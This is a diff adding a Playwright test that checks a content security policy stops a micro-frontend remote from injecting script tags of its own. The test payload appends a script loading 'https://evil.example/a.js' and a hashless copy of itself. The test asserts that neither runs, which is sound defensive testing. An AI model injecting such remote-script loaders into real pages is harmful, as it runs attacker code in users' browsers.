@@ -110,6 +110,25 @@ test('feature 17: of ten causes, an entry that the content security policy block
   await expect.poll(() => seen[0], { timeout: 15_000 }).toBe('REMOTE_BLOCKED');
 });
 
+test('feature 36: script tags that a remote adds by itself run nothing, neither a foreign file nor one of its own without a hash', async ({
+  page,
+}) => {
+  const seen = watchCauses(page, 'mfe-checkout');
+  const requested: string[] = [];
+  page.on('request', (request) => requested.push(request.url()));
+  host.break(/entry\.js/, {
+    published: `const { src } = document.currentScript;
+      if (src.endsWith('?own')) window.ranOwn = true;
+      const add = (src) => document.head.append(Object.assign(document.createElement('script'), { src }));
+      add(src + '?own');
+      add('https://evil.example/a.js');`,
+  });
+  await page.goto(host.url + order);
+  await expect.poll(() => seen[0], { timeout: 15_000 }).toBe('REMOTE_THREW');
+  expect(await page.evaluate(() => 'ranOwn' in window)).toBe(false);
+  expect(requested.join()).not.toContain('evil.example');
+});
+
 test.describe('with a second asset host', () => {
   let shell: Awaited<ReturnType<typeof startShell>>;
   let first: Host;
